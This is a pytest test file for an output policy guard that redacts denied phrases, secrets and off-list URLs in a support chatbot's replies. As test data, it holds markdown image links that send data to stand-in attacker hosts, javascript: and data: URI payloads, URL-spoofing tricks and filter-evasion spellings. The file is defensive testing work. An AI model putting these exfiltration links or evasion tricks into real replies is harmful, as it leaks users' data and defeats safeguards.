"""The policy guard: each text rule kind both ways, evasions, fixes, verdict actions,
field rules, Python rules and the shipped support-bot policy."""
from __future__ import annotations

import json

import pytest

from guardlayer.context import Context
from guardlayer.errors import ConfigError
from guardlayer.guards.policy import PolicyGuard, policy_rule, unregister_rule
from guardlayer.verdict import Finding


def out(value=None):
    return Context(side="output") if value is None else Context(side="output", value=value)


def guard(*rules):
    return PolicyGuard(rules=list(rules))


DENY = {"id": "no-promise", "kind": "deny", "phrases": ["guaranteed refund"], "action": "fix"}


# -- deny phrases ----------------------------------------------------------------------------

def test_deny_passes_clean_text():
    v = guard(DENY).check("Refunds are reviewed case by case.", out())
    assert v.passed and not v.findings and v.meta["actions"] == {}


@pytest.mark.parametrize("text", [
    "You get a guaranteed refund.",
    "You get a GUARANTEED   Refund.",                       # case, spacing
    "You get a guaranteed\nrefund.",                        # line break
    "You get a gu\u0430r\u0430nteed refund.",               # Cyrillic a
    "You get a guar\u200banteed re\u200dfund.",             # zero-width
    "You get a g u a r a n t e e d refund.",                # spaced letters
    "You get a ｇｕａｒａｎｔｅｅｄ refund.",                  # full width (NFKC)
    "You get a guarantéed refund.",                         # diacritic
    "You get a guaranteed-refund.",                         # punctuation between words
    "You get a gu4rant33d r3fund.",                         # leetspeak
])
def test_deny_catches_evasions(text):
    v = guard(DENY).check(text, out())
    assert not v.passed
    (f,) = v.findings
    assert f.kind == "no-promise"
    # the span covers exactly the original characters of the phrase
    assert text[f.start:f.end] == f.text
    assert text[:f.start] == "You get a " and text[f.end:] == "."
    assert v.fixed == "You get a [REDACTED]."


def test_deny_needs_word_boundaries():
    g = guard({"id": "k", "kind": "deny", "phrases": ["kill"]})
    assert g.check("a useful skill", out()).passed
    assert not g.check("kill it", out()).passed


def test_allow_phrase_excuses_a_match_inside_it():
    g = guard({"id": "k", "kind": "deny", "phrases": ["kill"], "allow": ["kill the process"]})
    assert g.check("Just kill the process.", out()).passed
    v = g.check("Kill the process, then kill the user.", out())
    assert not v.passed and len(v.findings) == 1 and v.findings[0].start == 23


def test_short_phrase_of_one_rule_not_hidden_by_longer_phrase_of_another():
    g = guard({"id": "log-long", "kind": "deny", "phrases": ["drop table users"], "action": "log"},
              {"id": "block-short", "kind": "deny", "phrases": ["drop table"]})
    v = g.check("please drop table users now", out())
    assert not v.passed
    assert v.meta["actions"] == {"log-long": "log", "block-short": "block"}
    assert v.meta["action"] == "block"


def test_fix_redacts_every_match_and_keeps_the_rest():
    g = guard({**DENY, "replacement": "***"})
    text = "A guaranteed refund! Yes, a Guaranteed Refund."
    assert g.check(text, out()).fixed == "A ***! Yes, a ***."


# -- regex ------------------------------------------------------------------------------------

def test_regex_both_ways_and_fix_span():
    g = guard({"id": "order", "kind": "regex", "pattern": r"\bORD-\d{6}\b", "action": "fix"})
    assert g.check("Order ORD-12345 is short.", out()).passed
    v = g.check("Order ORD-123456 shipped.", out())
    assert not v.passed and v.fixed == "Order [REDACTED] shipped."
    assert (v.findings[0].start, v.findings[0].end) == (6, 16)


def test_regex_on_folded_text_maps_back_to_original_span():
    g = guard({"id": "pw", "kind": "regex", "pattern": r"password is \w+", "folded": True, "action": "fix"})
    text = "The PASS\u200bWORD  is hunter2, ok"
    v = g.check(text, out())
    assert not v.passed and v.fixed == "The [REDACTED], ok"


def test_regex_ignore_case_flag():
    rule = {"id": "r", "kind": "regex", "pattern": "secret plan"}
    assert guard(rule).check("SECRET PLAN", out()).passed
    assert not guard({**rule, "ignore_case": True}).check("SECRET PLAN", out()).passed


# -- max length, required content ---------------------------------------------------------

def test_max_length_both_ways_and_truncates():
    g = guard({"id": "len", "kind": "max_length", "max": 10, "action": "fix"})
    assert g.check("short", out()).passed
    v = g.check("x" * 25, out())
    assert not v.passed and v.fixed == "x" * 10 and v.findings[0].start == 10


def test_require_any_and_all():
    anyr = guard({"id": "disc", "kind": "require", "phrases": ["not financial advice", "nfa"]})
    assert anyr.check("Buy low. NFA.", out()).passed
    assert anyr.check("Buy low. This is NOT  financial advice.", out()).passed
    assert not anyr.check("Buy low.", out()).passed
    allr = guard({"id": "disc", "kind": "require", "phrases": ["terms apply", "see faq"], "mode": "all"})
    assert not allr.check("Terms apply.", out()).passed
    assert allr.check("Terms apply. See FAQ.", out()).passed


def test_require_fix_appends_the_disclaimer():
    g = guard({"id": "disc", "kind": "require", "phrases": ["not financial advice"], "action": "fix",
               "append": "This is not financial advice."})
    v = g.check("Buy low.", out())
    assert v.fixed == "Buy low.\n\nThis is not financial advice."
    assert g.check(v.fixed, out()).passed


# -- URLs -----------------------------------------------------------------------------------

LINKS = {"id": "links", "kind": "urls", "allow_domains": ["example.com"], "action": "fix"}


@pytest.mark.parametrize("text", [
    "See https://example.com/help.",
    "See https://docs.example.com/a?b=c#d and [help](https://example.com/x).",
    "![logo](https://cdn.example.com/logo.png)",
    "Relative [link](/help) is fine, so is mailto:support@example.com",
    "Visit www.example.com today",
    "HTTPS://EXAMPLE.COM/UPPER",
])
def test_urls_allowed(text):
    assert guard(LINKS).check(text, out()).passed


@pytest.mark.parametrize("text,host", [
    ("![x](https://evil.com/pixel.png?d=SECRET)", "evil.com"),
    ("[click](https://evil.com/example.com)", "evil.com"),
    ("go to https://example.com.evil.com/login", "example.com.evil.com"),
    ("go to https://example.com@evil.com/", "evil.com"),
    ("go to https://user:pw@evil.com/", "evil.com"),
    ("go to https://evilexample.com/", "evilexample.com"),
    ("go to https://exam\u0440le.com/", None),                        # Cyrillic r
    ("go to https://evil\u200b.com/", "evil.com"),                     # zero-width in host
    ("go to https://evil%2ecom/", "evil.com"),                         # percent-escaped dot
    ("go to https:/\\evil.com/", "evil.com"),                          # slash tricks
    ("go to https:///evil.com/", "evil.com"),
    ('<img src="//evil.com/p.gif">', "evil.com"),
    ("go to www.evil.com now", "www.evil.com"),
    ("[ref]: https://evil.com/x", "evil.com"),
    ("[x](javascript:alert(1))", None),                                # scheme not allowed
    ("[x](data:text/html;base64,AAAA)", None),
    ("go to https://example.com:443@evil.com:8080/x", "evil.com"),
])
def test_urls_blocked(text, host):
    v = guard(LINKS).check(text, out())
    assert not v.passed, text
    if host:
        assert f"host {host!r}" in v.findings[0].detail


def test_url_fix_removes_markdown_image_whole_and_keeps_allowed_link():
    text = "Hi ![p](https://evil.com/a.png?q=1) see https://example.com/ok."
    v = guard(LINKS).check(text, out())
    assert v.fixed == "Hi [link removed] see https://example.com/ok."


# -- secrets ----------------------------------------------------------------------------------

SECRETS = {"id": "no-secrets", "kind": "secrets", "action": "fix"}


def test_secrets_both_ways():
    assert guard(SECRETS).check("Use the settings page to create a key.", out()).passed
    text = "Your key is AKIAIOSFODNN7EXAMPLE, keep it safe."
    v = guard(SECRETS).check(text, out())
    assert not v.passed and v.fixed == "Your key is [SECRET], keep it safe."


def test_secret_split_by_zero_width_is_found_and_redacted_whole():
    text = "key AKIAIOSFOD\u200bNN7EXAMPLE end"
    v = guard(SECRETS).check(text, out())
    assert not v.passed and v.fixed == "key [SECRET] end"


# -- verdict actions ------------------------------------------------------------------------

def test_log_only_rules_pass_with_findings():
    g = guard({"id": "comp", "kind": "deny", "phrases": ["amazon"], "action": "log"})
    v = g.check("Also sold on Amazon.", out())
    assert v.passed and v.findings[0].kind == "comp"
    assert v.meta == {"actions": {"comp": "log"}, "action": "log"}


def test_strongest_action_and_fixed_only_when_all_fixable():
    g = guard(DENY, {"id": "fb", "kind": "deny", "phrases": ["lawsuit"], "action": "fallback"},
              {"id": "len", "kind": "max_length", "max": 1000, "action": "fix"})
    v = g.check("A guaranteed refund or a lawsuit.", out())
    assert not v.passed and v.meta["action"] == "fallback"
    assert v.meta["actions"] == {"no-promise": "fix", "fb": "fallback"}
    assert v.fixed == "A [REDACTED] or a [REDACTED]."
    g = guard(DENY, {"id": "must", "kind": "field", "require": "id exists", "action": "block"})
    v = g.check("A guaranteed refund.", out({"name": "x"}))
    assert v.meta["action"] == "block" and v.fixed is None  # "exists" cannot be fixed by dropping


def test_sides_limit_where_a_rule_runs():
    g = guard({**DENY, "sides": ["output"]})
    assert g.check("guaranteed refund?", Context(side="input")).passed
    assert not g.check("guaranteed refund!", out()).passed


# -- field rules ---------------------------------------------------------------------------

REFUND = {"id": "refund-within-order", "kind": "field", "when": {"action": "refund"},
          "require": "refund.amount <= order.total"}


def test_field_rule_path_vs_path_and_when():
    g = guard(REFUND)
    ok = {"action": "refund", "refund": {"amount": 50}, "order": {"total": 80}}
    over = {"action": "refund", "refund": {"amount": 90}, "order": {"total": 80}}
    not_refund = {"action": "answer", "refund": {"amount": 90}, "order": {"total": 80}}
    assert g.check(json.dumps(ok), out(ok)).passed
    assert g.check(json.dumps(not_refund), out(not_refund)).passed
    v = g.check(json.dumps(over), out(over))
    assert not v.passed and v.findings[0].kind == "refund-within-order"
    missing = {"action": "refund", "order": {"total": 80}}
    assert not g.check("{}", out(missing)).passed  # absent amount: fail closed


def test_field_rule_reads_json_text_when_no_value_and_skips_prose():
    g = guard(REFUND)
    over = {"action": "refund", "refund": {"amount": 90}, "order": {"total": 80}}
    assert not g.check(json.dumps(over), out()).passed
    v = g.check("no JSON here", out())
    assert v.passed and v.meta["skipped"] == ["refund-within-order"]


def test_field_fix_drops_the_field_and_returns_the_value():
    g = guard({"id": "eu-no-price", "kind": "field", "action": "fix", "when": {"region": "EU"},
               "require": {"price": "absent"}})
    value = {"region": "EU", "price": 10, "name": "x"}
    v = g.check(json.dumps(value), out(value))
    assert not v.passed and v.value == {"region": "EU", "name": "x"}
    assert json.loads(v.fixed) == {"region": "EU", "name": "x"}
    assert value == {"region": "EU", "price": 10, "name": "x"}  # the input is not mutated
    us = {"region": "US", "price": 10}
    assert g.check(json.dumps(us), out(us)).passed


def test_field_fix_not_offered_when_dropping_does_not_help():
    g = guard({"id": "has-id", "kind": "field", "action": "fix", "require": "order.id exists"})
    v = g.check("{}", out({"order": {}}))
    assert not v.passed and v.fixed is None


def test_text_fix_also_redacts_the_parsed_value():
    g = guard(SECRETS)
    value = {"reply": "key AKIAIOSFODNN7EXAMPLE"}
    v = g.check(json.dumps(value), out(value))
    assert v.value == {"reply": "key [SECRET]"}


@pytest.mark.parametrize("cond,good,bad", [
    ("discount <= 20", {"discount": 20}, {"discount": 21}),
    ("discount <= 20", {"discount": 5.5}, {"discount": "5"}),          # no type coercion
    ("status in [open, pending]", {"status": "open"}, {"status": "closed"}),
    ("status not in [closed]", {"status": "open"}, {"status": "closed"}),
    ("sku matches '^[A-Z]{3}-\\d+$'", {"sku": "ABC-12"}, {"sku": "abc-12"}),
    ({"any": ["discount absent", "discount < 10"]}, {}, {"discount": 10}),
    ({"not": "flag == true"}, {"flag": 1}, {"flag": True}),
    ("items[*].qty > 0", {"items": [{"qty": 1}, {"qty": 2}]}, {"items": [{"qty": 1}, {"qty": 0}]}),
])
def test_field_conditions(cond, good, bad):
    g = guard({"id": "c", "kind": "field", "require": cond})
    assert g.check("{}", out(good)).passed
    assert not g.check("{}", out(bad)).passed


# -- python rules -------------------------------------------------------------------------

def test_python_rule_registered_by_name():
    @policy_rule("test_shouting")
    def shouting(text, value, ctx, *, max_caps=5):
        return [Finding("caps", i, i + len(w), w) for i, w in _words(text) if w.isupper() and len(w) > max_caps]

    try:
        g = guard({"id": "no-shouting", "kind": "python", "rule": "test_shouting",
                   "params": {"max_caps": 3}, "action": "fix", "replacement": "..."})
        assert g.check("Hello there", out()).passed
        v = g.check("Hello THERE friend", out())
        assert not v.passed and v.findings[0].kind == "no-shouting" and v.fixed == "Hello ... friend"
        with pytest.raises(ConfigError, match="params do not fit"):
            guard({"id": "x", "kind": "python", "rule": "test_shouting", "params": {"nope": 1}})
    finally:
        unregister_rule("test_shouting")
    with pytest.raises(ConfigError, match="unknown python rule 'test_shouting'"):
        guard({"id": "x", "kind": "python", "rule": "test_shouting"})


def _words(text):
    pos = 0
    for w in text.split(" "):
        yield pos, w
        pos += len(w) + 1


# -- construction errors --------------------------------------------------------------------

def test_needs_rules_and_unique_ids():
    with pytest.raises(ConfigError, match="needs rules"):
        PolicyGuard()
    with pytest.raises(ConfigError, match="duplicate id"):
        guard(DENY, DENY)


# -- the shipped support bot policy ---------------------------------------------------------

@pytest.fixture(scope="module")
def bot():
    return PolicyGuard("support_bot")


def reply(**kw):
    base = {"reply": "Your refund is on its way. Refunds are subject to review.", "action": "refund",
            "refund": {"amount": 120, "currency": "EUR"}, "order": {"id": "A-1", "total": 200}}
    base.update(kw)
    return base


def test_support_bot_passes_a_good_refund(bot):
    value = reply()
    v = bot.check(json.dumps(value), out(value))
    assert v.passed and not v.findings


def test_support_bot_refund_over_limit_and_over_order(bot):
    value = reply(refund={"amount": 700, "currency": "EUR"}, order={"id": "A-1", "total": 800})
    v = bot.check(json.dumps(value), out(value))
    assert not v.passed
    assert v.meta["actions"]["refund-over-limit"] == "fallback"
    assert "refund-within-order" not in v.meta["actions"]
    value = reply(refund={"amount": 300, "currency": "EUR"}, order={"id": "A-1", "total": 250})
    v = bot.check(json.dumps(value), out(value))
    assert set(v.meta["actions"]) == {"refund-within-order"} and v.meta["action"] == "block"


def test_support_bot_text_rules(bot):
    good = "You can track the order at https://shop.example.com/orders. Refunds are subject to review."
    assert bot.check(good, out()).passed
    promise = "Don't worry, a full refund is guaranteed! Refunds are subject to review."
    assert bot.check(promise, out()).meta["actions"] == {"no-refund-promise": "block"}
    amount = "I have issued a refund of $750 to your card. Refunds are subject to review."
    assert "refund-amount-in-text" in bot.check(amount, out()).meta["actions"]
    small = "I have issued a refund of $75 to your card. Refunds are subject to review."
    assert bot.check(small, out()).passed
    exfil = "Thanks! ![t](https://evil.example.org/p.png?d=A-1) Refunds are subject to review."
    v = bot.check(exfil, out())
    assert v.meta["action"] == "fix" and v.fixed == "Thanks! [link removed] Refunds are subject to review."


def test_support_bot_appends_disclaimer_and_logs_competitors(bot):
    v = bot.check("It is also sold on Amazon.", out())
    assert not v.passed and v.meta["actions"] == {"disclaimer": "fix", "mentions-competitor": "log"}
    assert v.fixed == "It is also sold on Amazon.\n\nRefunds are subject to review by our team."


def test_a_crashing_python_rule_raises_instead_of_passing():
    @policy_rule("test_crash")
    def crash(text, value, ctx):
        raise RuntimeError("boom")

    try:
        g = guard({"id": "c", "kind": "python", "rule": "test_crash"})
        with pytest.raises(RuntimeError, match="boom"):
            g.check("anything", out())
    finally:
        unregister_rule("test_crash")


def test_phrases_ignore_spacing_but_keep_word_edges():
    g = guard({"id": "p", "kind": "deny", "phrases": ["no refund"]})
    assert not g.check("There is norefund.", out()).passed
    assert not g.check("There is no. refund.", out()).passed
    assert g.check("There is snow refund.", out()).passed   # 'no' is inside 'snow'
    assert g.check("There is no refunding.", out()).passed  # 'refund' is inside 'refunding'
